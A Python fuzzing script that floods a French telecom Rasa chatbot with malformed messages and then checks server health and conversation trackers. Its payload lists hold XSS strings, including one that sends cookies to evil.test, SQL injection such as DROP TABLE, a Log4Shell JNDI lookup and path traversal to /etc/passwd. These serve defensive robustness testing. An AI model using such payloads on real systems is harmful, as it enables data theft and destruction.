"""REST fuzz: hostile messages to many conversations over Rasa's REST channel.

Sends --count messages (POST /webhooks/rest/webhook {"sender", "message"}) spread
over --conversations conversations, each conversation's messages in order, several
conversations at once. The messages, drawn from --seed: empty and whitespace,
control characters, right-to-left marks, emoji runs, HTML/JS, SQL fragments,
template and format strings, `/intent{json}` payloads (known and unknown intents,
valid and broken JSON, entities and slots with huge values), strings over 2,000
characters, random Unicode, random bytes decoded leniently, lone surrogates (valid
JSON escapes), mixed with ordinary French sentences of the assistant's flows.

Then checks: no HTTP 5xx and no request left unanswered; Rasa still answers
GET /status and a "bonjour" in a new conversation; every conversation touched
still loads through Rasa's HTTP API (GET /conversations/{id}/tracker with a JWT
signed with RASA_JWT_SECRET), with one user event per message sent (all events:
`/restart` payloads are among the messages). The answers to messages over 2,000
characters (not `/intent` payloads) are counted: the polite "trop long" one, or
another (a conversation handed to an advisor is silent, by design).

Targets:
  embedded (default)  starts the action server and Rasa (tests/e2e/servers.py) on
                      free loopback ports, over a fresh SQLite file seeded with
                      fixtures/demo.yml, BOT_TODAY=--today, conversations in an SQL
                      tracker store (a second SQLite file; --memory-tracker-store for
                      Rasa's in-memory one), then stops them.
  --url BASE          an already-running Rasa (its REST channel and HTTP API);
                      --jwt-secret (default $RASA_JWT_SECRET) signs the API calls.

Prints the figures (messages sent, per-category and per-status counts, 5xx,
trackers checked, failures, messages per second); exit status 0, or 1 on any
failure, 2 when the servers could not start.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections import Counter
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # run as a script: `bot` and `tests` are beside it

from bot.handoff.gateway import api_token  # noqa: E402

DEFAULT_TODAY = "2026-11-26"
DEFAULT_COUNT = 10_000
MESSAGES_PER_CONVERSATION = 20
TOO_LONG = 2000
# Longest message or entity value drawn: each one costs the server seconds (the
# sentence encoder's time grows with the length), so a run of thousands keeps them
# under this.
LONG_MAX = 2500
POLITE_TOO_LONG = "trop long"
# Figures keep the first few failures verbatim; the counts cover them all.
KEEP_FAILURES = 20

# ------------------------------------------------------------------- messages

NORMAL = [
    "bonjour",
    "Bonjour, je voudrais changer la date de ma portabilité",
    "je veux décaler ma portabilité au 15 décembre",
    "c'est quand ma portabilité ?",
    "mon numéro est le 06 12 34 56 78",
    "0623456789",
    "le code est 482 913",
    "482913",
    "le 15 décembre",
    "plutôt mardi prochain",
    "fin décembre",
    "oui",
    "non",
    "oui merci",
    "merci, bonne journée",
    "au revoir",
    "ma commande CMD-2026-004512 elle en est où ?",
    "où en est ma commande cmd-2026-004587",
    "c'est quoi un RIO ?",
    "mon RIO 02 P K7T 2QX TB6",
    "quels documents faut-il fournir ?",
    "je veux annuler ma portabilité",
    "j'ai pas reçu le code",
    "je voudrais parler à un conseiller",
    "j'ai oublié mon mot de passe",
    "mon adresse mail marie.dupont@example.fr",
    "comment activer ma ligne ?",
    "je veux débloquer mon téléphone",
    "pourquoi ?",
    "vous êtes un robot ?",
    "c'est nul, ça fait trois fois que je demande",
    "hello, do you speak English?",
    "stop",
    "laissez tomber",
]
WHITESPACE = [
    "",
    " ",
    "   ",
    "\t",
    "\n",
    "\r\n",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\ufeff",
]
CONTROL = [chr(code) for code in [*range(0, 32), 127, *range(128, 160)]]
BIDI = [
    "\u200e",
    "\u200f",
    "\u061c",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
]
EMOJI = [
    "😀",
    "😂",
    "👍",
    "👍🏽",
    "🇫🇷",
    "❤️",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🤖",
    "📱",
    "💩",
    "🔥",
    "\U0001f9d1\u200d\U0001f4bb",
    "🫠",
    "Ⓜ️",
    "1️⃣",
]
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//evil.test/'+document.cookie)>",
    "\"><script>alert('xss')</script>",
    "javascript:alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<a href='x' onclick='alert(1)'>clic</a>",
    "</textarea><script>alert(1)</script>",
    "<!--",
    "]]><x>",
    "{{constructor.constructor('alert(1)')()}}",
]
SQL = [
    "'; DROP TABLE portings; --",
    "0612345678' OR '1'='1",
    "1; DELETE FROM verification_codes",
    "' UNION SELECT msisdn, code FROM verification_codes --",
    "CMD-2026-004512' AND SLEEP(5) --",
    '" OR ""="',
    "admin'--",
    "1' ORDER BY 1--+",
    "'); INSERT INTO outbox_messages VALUES (1,'0612345678','x'); --",
]
TEMPLATES = [
    "{operator_name}",
    "{verified_msisdn}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "${jndi:ldap://evil.test/a}",
    "%s%s%s%n",
    "%(verified_msisdn)s",
    "{0.__class__.__mro__}",
    "[lien](javascript:alert(1))",
    "\\u0000",
    "../../../../etc/passwd",
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
]
SLOTS_AND_ENTITIES = [
    "verified_msisdn",
    "phone_number",
    "otp_code",
    "requested_date",
    "date",
    "date_period",
    "order_id",
    "email",
    "rio",
    "confirmation",
    "porting_task",
    "change_request_id",
    "access_role",
    "callback_number",
    "callback_slot",
    "handoff_reason",
    "date_suggestions",
]
FALLBACK_INTENTS = [
    "greet",
    "goodbye",
    "affirm",
    "deny",
    "inform",
    "change_porting_date",
    "cancel_porting",
    "request_human",
]


def domain_intents() -> list[str]:
    """The intents of domain.yml (a fixed list if it cannot be read)."""
    try:
        import yaml

        domain = yaml.safe_load((ROOT / "domain.yml").read_text(encoding="utf-8"))
        names = [
            item if isinstance(item, str) else next(iter(item))
            for item in domain.get("intents", [])
        ]
        return names or FALLBACK_INTENTS
    except Exception:  # any trouble: the fixed list
        return FALLBACK_INTENTS


class MessageMaker:
    """Draws hostile and ordinary messages, reproducibly from one seed."""

    def __init__(
        self, seed: int, intents: list[str] | None = None, long_max: int = LONG_MAX
    ) -> None:
        self.rng = random.Random(seed)
        self.intents = intents or domain_intents()
        self.long_max = max(long_max, TOO_LONG + 1)
        self.kinds: list[tuple[str, int, Callable[[], str]]] = [
            ("normal", 30, self.normal),
            ("empty_or_whitespace", 5, self.whitespace),
            ("control", 5, self.control),
            ("bidi", 5, self.bidi),
            ("emoji", 5, self.emoji),
            ("html_js", 5, self.html),
            ("sql", 5, self.sql),
            ("template", 3, self.template),
            ("intent_payload", 10, self.intent_payload),
            ("too_long", 2, self.too_long),
            ("random_unicode", 7, self.random_unicode),
            ("random_bytes", 5, self.random_bytes),
            ("lone_surrogates", 2, self.lone_surrogates),
            ("mixed", 8, self.mixed),
        ]

    def draw(self) -> tuple[str, str]:
        """One message: (its kind, its text)."""
        names = [kind for kind, _, _ in self.kinds]
        weights = [weight for _, weight, _ in self.kinds]
        kind = self.rng.choices(names, weights)[0]
        make = next(make for name, _, make in self.kinds if name == kind)
        return kind, make()

    def many(self, count: int) -> list[tuple[str, str]]:
        """`count` messages."""
        return [self.draw() for _ in range(count)]

    def _pick(self, items: list[str], low: int = 1, high: int = 5) -> str:
        return "".join(
            self.rng.choice(items) for _ in range(self.rng.randint(low, high))
        )

    def normal(self) -> str:
        return self.rng.choice(NORMAL)

    def whitespace(self) -> str:
        return self._pick(WHITESPACE, 0, 6)

    def control(self) -> str:
        text = self._pick(CONTROL, 1, 30)
        return text if self.rng.random() < 0.5 else self._around_normal(text)

    def bidi(self) -> str:
        marks = self._pick(BIDI, 1, 6)
        sentence = self.normal()
        if self.rng.random() < 0.3:
            sentence = sentence[::-1]  # "nohtyp" behind a right-to-left override
        return marks + sentence + self._pick(BIDI, 0, 3)

    def emoji(self) -> str:
        longest = self.long_max // 8  # 312 by default: runs cost the encoder
        if self.rng.random() < 0.5:
            return self.rng.choice(EMOJI) * self.rng.randint(1, longest)
        return self._pick(EMOJI, 1, longest // 3)

    def html(self) -> str:
        return self._around_normal(self.rng.choice(HTML))

    def sql(self) -> str:
        return self._around_normal(self.rng.choice(SQL))

    def template(self) -> str:
        return self._around_normal(self.rng.choice(TEMPLATES))

    def intent_payload(self) -> str:
        rng = self.rng
        known = rng.random() < 0.7
        intent = (
            rng.choice(self.intents)
            if known
            else rng.choice(
                [
                    "",
                    "nlu_fallback",
                    "session_start",
                    "restart",
                    "action_submit",
                    "__init__",
                    "x" * rng.randint(1, 3000),
                    "intent with spaces",
                    "ïntent",
                    "../etc",
                ]
            )
        )
        shape = rng.random()
        if shape < 0.2:
            return f"/{intent}"
        entities = {
            rng.choice([*SLOTS_AND_ENTITIES, "unknown_entity", "", "__proto__"]): (
                self._entity_value()
            )
            for _ in range(rng.randint(1, 4))
        }
        body = json.dumps(entities, ensure_ascii=rng.random() < 0.5)
        if shape < 0.55:
            return f"/{intent}{body}"
        if shape < 0.8:  # broken JSON
            cut = rng.randint(0, max(0, len(body) - 1))
            broken = rng.choice(
                [
                    body[:cut],
                    body.replace('"', "'"),
                    body + "}}",
                    "{" + body,
                    body.replace(":", ""),
                    "{" * rng.randint(1, 3000),
                ]
            )
            return f"/{intent}{broken}"
        # confidences, lists and nesting where a value is expected
        oddity = rng.choice(
            [
                '{"date": ["2026-12-15", "2026-12-16"]}',
                '{"date": {"value": "2026-12-15"}}',
                '{"verified_msisdn": "0612345678", "otp_code": "verified"}',
                '{"requested_date": "2026-12-15", "confirmation": true}',
                '{"date": null}',
                '{"date": 1e999}',
                '{"date": -1}',
                "[]",
                "null",
                '"string"',
            ]
        )
        return f"/{intent}{oddity}" + (f"@{rng.random():.3f}" if shape > 0.95 else "")

    def _entity_value(self) -> Any:
        rng = self.rng
        roll = rng.random()
        if roll < 0.15:
            return rng.choice("x9é ") * rng.randint(TOO_LONG, self.long_max)  # huge
        if roll < 0.45:
            return rng.choice(
                [
                    "2026-12-15",
                    "2026-13-45",
                    "15/12",
                    "0612345678",
                    "+33612345678",
                    "CMD-2026-004512",
                    "02PK7T2QXTB6",
                ]
            )
        if roll < 0.6:
            return self.random_unicode(max_length=50)
        if roll < 0.7:
            return rng.choice([None, True, 0, -1, 1e308, [], {}, [1, 2], {"a": 1}])
        if roll < 0.8:
            return rng.choice(HTML + SQL + TEMPLATES)
        return self.normal()

    def too_long(self) -> str:
        rng = self.rng
        target = rng.randint(TOO_LONG + 1, self.long_max)
        source = rng.choice(["sentence", "letters", "unicode", "digits"])
        if source == "sentence":
            piece = self.normal() + " "
        elif source == "letters":
            piece = rng.choice("aéz ")
        elif source == "digits":
            piece = "06 12 34 56 78 "
        else:
            piece = self.random_unicode(max_length=40) or "é"
        text = (piece * (target // len(piece) + 1))[:target]
        if len(text.strip()) <= TOO_LONG:
            text = "a" * target
        return text

    def random_unicode(self, max_length: int = 300) -> str:
        rng = self.rng
        chars = []
        for _ in range(rng.randint(1, max_length)):
            plane = rng.random()
            if plane < 0.5:
                code = rng.randint(0x20, 0x2FF)
            elif plane < 0.85:
                code = rng.randint(0x300, 0xFFFF)
            else:
                code = rng.randint(0x10000, 0x10FFFF)
            if 0xD800 <= code <= 0xDFFF:  # surrogates have their own kind
                code = 0xFFFD
            chars.append(chr(code))
        return "".join(chars)

    def random_bytes(self) -> str:
        raw = self.rng.randbytes(self.rng.randint(1, 400))
        encoding = self.rng.choice(["utf-8", "utf-16-le", "latin-1", "cp1252"])
        return raw.decode(encoding, errors="replace")

    def lone_surrogates(self) -> str:
        """Unpaired UTF-16 halves: valid in JSON ("\\ud800"), invalid in UTF-8."""
        halves = "".join(
            chr(self.rng.randint(0xD800, 0xDFFF)) for _ in range(self.rng.randint(1, 8))
        )
        return self._around_normal(halves)

    def mixed(self) -> str:
        maker = self.rng.choice(
            [
                self.control,
                self.bidi,
                self.emoji,
                self.html,
                self.sql,
                self.template,
                self.random_unicode,
                self.random_bytes,
            ]
        )
        return self._around_normal(maker())

    def _around_normal(self, inserted: str) -> str:
        sentence = self.normal()
        cut = self.rng.randint(0, len(sentence))
        return sentence[:cut] + inserted + sentence[cut:]


# ----------------------------------------------------------------------- HTTP


@dataclass
class Answer:
    """What one request got: an HTTP status (0 when none came back) and a body."""

    status: int
    body: Any = None
    error: str = ""


def _request(
    url: str,
    *,
    payload: Any = None,
    headers: dict[str, str] | None = None,
    timeout: float = 300,
    ensure_ascii: bool = True,
) -> Answer:
    data = None
    all_headers = dict(headers or {})
    if payload is not None:
        # Lone surrogates only travel as JSON escapes (ensure_ascii).
        text = json.dumps(payload, ensure_ascii=ensure_ascii)
        data = text.encode("utf-8", errors="surrogatepass")
        all_headers["Content-Type"] = "application/json"
    request = urllib.request.Request(url, data=data, headers=all_headers)
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            raw = response.read()
            status = response.status
    except urllib.error.HTTPError as error:
        return Answer(error.code, error.read()[:500].decode(errors="replace"))
    except (OSError, ValueError) as error:  # refused, reset, timed out
        return Answer(0, error=f"{type(error).__name__}: {error}")
    try:
        return Answer(status, json.loads(raw.decode()))
    except ValueError:
        return Answer(status, raw[:500].decode(errors="replace"), "not JSON")


# --------------------------------------------------------------------- the fuzz


@dataclass
class FuzzReport:
    """The figures of one fuzz run; `failures` lists what went wrong."""

    sent: int = 0
    conversations: int = 0
    elapsed: float = 0.0
    kinds: Counter = field(default_factory=Counter)
    statuses: Counter = field(default_factory=Counter)
    server_errors: int = 0
    unanswered: int = 0
    long_messages: int = 0
    long_answered_politely: int = 0
    long_other_answers: Counter = field(default_factory=Counter)
    trackers_checked: int = 0
    trackers_loaded: int = 0
    status_ok: bool = False
    greeting_ok: bool = False
    latencies: list[float] = field(default_factory=list, repr=False)
    kind_seconds: Counter = field(default_factory=Counter)
    slowest: tuple[float, str] = (0.0, "")
    failure_count: int = 0
    failures: list[str] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    @property
    def ok(self) -> bool:
        """Whether nothing failed."""
        return self.failure_count == 0

    @property
    def rate(self) -> float:
        """Messages per second while sending."""
        return self.sent / self.elapsed if self.elapsed else 0.0

    def fail(self, what: str) -> None:
        """Count a failure, and keep its description if it is among the first."""
        with self._lock:
            self.failure_count += 1
            if len(self.failures) < KEEP_FAILURES:
                self.failures.append(what)

    def lines(self) -> list[str]:
        """The figures, as printed."""
        statuses = ", ".join(
            f"{status or 'none'}: {count}"
            for status, count in sorted(self.statuses.items())
        )
        kinds = ", ".join(
            f"{kind} {count}" for kind, count in sorted(self.kinds.items())
        )
        lines = [
            f"messages sent:        {self.sent} to {self.conversations} conversations "
            f"in {self.elapsed:.1f} s ({self.rate:.1f} msg/s)",
            f"by kind:              {kinds}",
            f"answer time:          {self._latency()}",
            f"HTTP statuses:        {statuses}",
            f"5xx:                  {self.server_errors}",
            f"unanswered:           {self.unanswered}",
            f"over {TOO_LONG} chars:      {self.long_messages}, answered "
            f"'{POLITE_TOO_LONG}': {self.long_answered_politely}",
            *(
                f"  other answer ({count}): {answer!r}"
                for answer, count in self.long_other_answers.most_common(3)
            ),
            f"trackers checked:     {self.trackers_checked}, loaded: "
            f"{self.trackers_loaded}",
            f"/status after:        {'200' if self.status_ok else 'FAILED'}",
            f"'bonjour' after:      {'answered' if self.greeting_ok else 'FAILED'}",
            f"failures:             {self.failure_count}",
        ]
        lines += [f"  - {failure}" for failure in self.failures]
        return lines

    def _latency(self) -> str:
        if not self.latencies:
            return "-"
        ordered = sorted(self.latencies)
        p50 = ordered[len(ordered) // 2]
        p95 = ordered[min(len(ordered) - 1, int(len(ordered) * 0.95))]
        seconds, what = self.slowest
        means = sorted(
            (
                (total / self.kinds[kind], kind)
                for kind, total in self.kind_seconds.items()
            ),
            reverse=True,
        )
        slowest_kinds = ", ".join(f"{kind} {mean:.1f} s" for mean, kind in means[:3])
        return (
            f"p50 {p50 * 1000:.0f} ms, p95 {p95 * 1000:.0f} ms, "
            f"max {seconds * 1000:.0f} ms ({what}); slowest kinds on average: "
            f"{slowest_kinds}"
        )


def _short(text: str, limit: int = 60) -> str:
    shown = text if len(text) <= limit else f"{text[:limit]}… ({len(text)} chars)"
    return ascii(shown)


def _texts(replies: Any) -> str:
    if not isinstance(replies, list):
        return ""
    return " ".join(
        str(reply.get("text", "")) for reply in replies if isinstance(reply, dict)
    )


class Fuzz:
    """One run against a Rasa server: send, then check the server and the trackers."""

    def __init__(
        self,
        rasa_url: str,
        api_headers: Callable[[], dict[str, str]],
        *,
        timeout: float = 300,
        workers: int = 16,
        progress: Callable[[str], None] | None = None,
    ) -> None:
        self.rasa_url = rasa_url.rstrip("/")
        self.api_headers = api_headers
        self.timeout = timeout
        self.workers = workers
        self.progress = progress
        self.report = FuzzReport()
        self._done = 0

    def run(
        self, messages: list[tuple[str, str]], conversations: int, prefix: str
    ) -> FuzzReport:
        """Send `messages` round-robin to `conversations` new conversations."""
        report = self.report
        count = max(1, min(conversations, len(messages) or 1))
        plan: dict[str, list[tuple[str, str]]] = {
            f"{prefix}-{index:05d}": [] for index in range(count)
        }
        senders = list(plan)
        for index, message in enumerate(messages):
            plan[senders[index % count]].append(message)
        report.conversations = count
        started = time.perf_counter()
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            sent_counts = dict(
                zip(senders, pool.map(self._converse, plan.items()), strict=True)
            )
        report.elapsed = time.perf_counter() - started
        self._check_server()
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            list(pool.map(self._check_tracker, sent_counts.items()))
        return report

    def _converse(self, conversation: tuple[str, list[tuple[str, str]]]) -> int:
        sender, messages = conversation
        answered = 0
        for kind, text in messages:
            # Half the bodies in raw UTF-8, half escaped; surrogates escaped only.
            raw = answered % 2 == 0 and not any(
                0xD800 <= ord(char) <= 0xDFFF for char in text
            )
            began = time.perf_counter()
            answer = _request(
                f"{self.rasa_url}/webhooks/rest/webhook",
                payload={"sender": sender, "message": text},
                timeout=self.timeout,
                ensure_ascii=not raw,
            )
            took = time.perf_counter() - began
            with self.report._lock:
                self.report.latencies.append(took)
                self.report.kind_seconds[kind] += took
                if took > self.report.slowest[0]:
                    self.report.slowest = (took, f"{kind} {_short(text, 40)}")
            self._record(sender, kind, text, answer)
            answered += 1
        return answered

    def _record(self, sender: str, kind: str, text: str, answer: Answer) -> None:
        report = self.report
        with report._lock:
            report.sent += 1
            report.kinds[kind] += 1
            report.statuses[answer.status] += 1
            self._done += 1
            done = self._done
        if answer.status >= 500:
            with report._lock:
                report.server_errors += 1
            report.fail(f"HTTP {answer.status} for {kind} {_short(text)} ({sender})")
        elif answer.status == 0:
            with report._lock:
                report.unanswered += 1
            report.fail(f"no answer ({answer.error}) for {kind} {_short(text)}")
        elif answer.status != 200 or not isinstance(answer.body, list):
            report.fail(f"HTTP {answer.status} {_short(str(answer.body))} for {kind}")
        if len(text) > TOO_LONG and not text.startswith("/") and answer.status == 200:
            replies = _texts(answer.body)
            with report._lock:
                report.long_messages += 1
                report.long_answered_politely += POLITE_TOO_LONG in replies
                if replies and POLITE_TOO_LONG not in replies:
                    report.long_other_answers[replies[:100]] += 1
        if self.progress and done % 1000 == 0:
            self.progress(f"{done} messages sent")

    def _check_server(self) -> None:
        report = self.report
        status = _request(
            f"{self.rasa_url}/status", headers=self.api_headers(), timeout=self.timeout
        )
        report.status_ok = status.status == 200
        if not report.status_ok:
            report.fail(f"GET /status after the fuzz: {status.status} {status.error}")
        greeting = _request(
            f"{self.rasa_url}/webhooks/rest/webhook",
            payload={"sender": f"fuzz-check-{time.time_ns()}", "message": "bonjour"},
            timeout=self.timeout,
        )
        report.greeting_ok = greeting.status == 200 and bool(_texts(greeting.body))
        if not report.greeting_ok:
            body = _short(str(greeting.body))
            report.fail(f"'bonjour' after the fuzz: {greeting.status} {body}")

    def _check_tracker(self, conversation: tuple[str, int]) -> None:
        sender, sent = conversation
        report = self.report
        # Every event, also those before a "/restart" payload.
        path = (
            f"/conversations/{urllib.parse.quote(sender, safe='')}/tracker"
            "?include_events=ALL"
        )
        answer = _request(
            f"{self.rasa_url}{path}",
            headers=self.api_headers(),
            timeout=self.timeout,
        )
        with report._lock:
            report.trackers_checked += 1
        body = answer.body if isinstance(answer.body, dict) else {}
        events = body.get("events")
        if (
            answer.status != 200
            or body.get("sender_id") != sender
            or not isinstance(events, list)
        ):
            report.fail(
                f"tracker {sender}: HTTP {answer.status} {answer.error} "
                f"{_short(str(answer.body), 120)}"
            )
            return
        users = sum(1 for event in events if event.get("event") == "user")
        if users != sent:
            report.fail(f"tracker {sender}: {users} user events for {sent} messages")
            return
        with report._lock:
            report.trackers_loaded += 1


def run_fuzz(
    rasa_url: str,
    api_headers: Callable[[], dict[str, str]],
    *,
    count: int = DEFAULT_COUNT,
    conversations: int | None = None,
    seed: int = 10,
    workers: int = 16,
    timeout: float = 300,
    long_max: int = LONG_MAX,
    progress: Callable[[str], None] | None = None,
) -> FuzzReport:
    """Send `count` hostile messages (drawn from `seed`) and check the server."""
    messages = MessageMaker(seed, long_max=long_max).many(count)
    conversations = conversations or max(1, count // MESSAGES_PER_CONVERSATION)
    fuzz = Fuzz(
        rasa_url, api_headers, timeout=timeout, workers=workers, progress=progress
    )
    return fuzz.run(messages, conversations, prefix=f"fuzz-{seed}-{time.time_ns():x}")


# ---------------------------------------------------------------- the command


def _embedded_env(workdir: Path, today: str, sql_trackers: bool) -> dict[str, str]:
    """The servers' environment, as tests/e2e/conftest.py builds it."""
    env = dict(os.environ)
    env.update(
        DATABASE_URL=f"sqlite:///{workdir / 'bot.db'}",
        BOT_TODAY=today,
        PYTHONPATH=str(ROOT),
        RASA_TELEMETRY_ENABLED="false",
        BOT_SECRET_KEY="fuzz-secret",
        SUPPORT_HOURS="always",
    )
    if sql_trackers:
        env["TRACKER_STORE_URL"] = f"sqlite:///{workdir / 'trackers.db'}"
    else:
        env.pop("TRACKER_STORE_URL", None)
    env.pop("LOCK_STORE_URL", None)
    return env


def parse_args(argv: Iterable[str] | None) -> argparse.Namespace:
    """The command line (see the module's docstring)."""
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0],
        epilog=__doc__.split("\n\n", 1)[1],
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument(
        "--count",
        type=int,
        default=DEFAULT_COUNT,
        help=f"messages to send (default {DEFAULT_COUNT})",
    )
    parser.add_argument(
        "--conversations",
        type=int,
        help=f"conversations (default: count / {MESSAGES_PER_CONVERSATION})",
    )
    parser.add_argument("--seed", type=int, default=10, help="random seed (default 10)")
    parser.add_argument(
        "--workers", type=int, default=16, help="conversations at once (default 16)"
    )
    parser.add_argument(
        "--timeout",
        type=float,
        default=300,
        help="seconds to wait for one answer (default 300)",
    )
    parser.add_argument(
        "--long-max",
        type=int,
        default=LONG_MAX,
        help=f"longest message or entity value, in characters (default {LONG_MAX})",
    )
    parser.add_argument("--url", help="base URL of an already-running Rasa")
    parser.add_argument(
        "--jwt-secret",
        default=os.environ.get("RASA_JWT_SECRET"),
        help="with --url: Rasa's --jwt-secret (default: $RASA_JWT_SECRET)",
    )
    parser.add_argument(
        "--today",
        default=DEFAULT_TODAY,
        help=f"embedded: BOT_TODAY (default {DEFAULT_TODAY})",
    )
    parser.add_argument(
        "--memory-tracker-store",
        action="store_true",
        help="embedded: Rasa's in-memory tracker store instead of SQL",
    )
    parser.add_argument(
        "--keep-workdir",
        action="store_true",
        help="embedded: keep the temporary folder (databases, logs)",
    )
    return parser.parse_args(list(argv) if argv is not None else None)


def _exit_on_sigterm(signum: int, frame: Any) -> None:
    raise SystemExit(128 + signum)  # unwinds through `finally`: servers stopped


def main(argv: Iterable[str] | None = None) -> int:
    """Run the fuzz (see the module's docstring)."""
    args = parse_args(argv)
    signal.signal(signal.SIGTERM, _exit_on_sigterm)

    def progress(line: str) -> None:
        print(line, flush=True)

    servers = None
    workdir: Path | None = None
    try:
        if args.url:
            if not args.jwt_secret:
                print(
                    "error: --jwt-secret (or RASA_JWT_SECRET) is needed with --url",
                    file=sys.stderr,
                )
                return 2
            rasa_url, secret = args.url, args.jwt_secret
        else:
            from tests.e2e.servers import MODEL, Servers

            if not MODEL.exists():
                print(
                    f"error: no trained model at {MODEL}: run `make train` first",
                    file=sys.stderr,
                )
                return 2
            workdir = Path(tempfile.mkdtemp(prefix="fuzz-"))
            env = _embedded_env(workdir, args.today, not args.memory_tracker_store)
            subprocess.run(
                [sys.executable, "-m", "bot", "seed"],
                cwd=ROOT,
                env=env,
                check=True,
                stdout=subprocess.DEVNULL,
            )
            servers = Servers(workdir=workdir, env=env)
            print(f"starting the action server and Rasa in {workdir} ...", flush=True)
            began = time.perf_counter()
            try:
                servers.start()
            except RuntimeError as exc:
                print(f"error: {exc}", file=sys.stderr)
                return 2
            print(
                f"servers ready after {time.perf_counter() - began:.0f} s", flush=True
            )
            rasa_url, secret = servers.rasa_url, servers.env["RASA_JWT_SECRET"]
        print(
            f"sending {args.count} messages (seed {args.seed}) to {rasa_url}",
            flush=True,
        )
        report = run_fuzz(
            rasa_url,
            lambda: {"Authorization": f"Bearer {api_token(secret)}"},
            count=args.count,
            conversations=args.conversations,
            seed=args.seed,
            workers=args.workers,
            timeout=args.timeout,
            long_max=args.long_max,
            progress=progress,
        )
        if servers is not None:
            for process in servers.processes:
                if process.poll() is not None:
                    report.fail(
                        f"server process {process.args[2]} exited "
                        f"({process.returncode})"
                    )
    finally:
        if servers is not None:
            servers.stop()
        if workdir is not None:
            if args.keep_workdir:
                print(f"kept {workdir}")
            else:
                shutil.rmtree(workdir, ignore_errors=True)
    print("\n".join(report.lines()), flush=True)
    print("REST fuzz: OK" if report.ok else "REST fuzz: FAILED", flush=True)
    return 0 if report.ok else 1


if __name__ == "__main__":
    sys.exit(main())
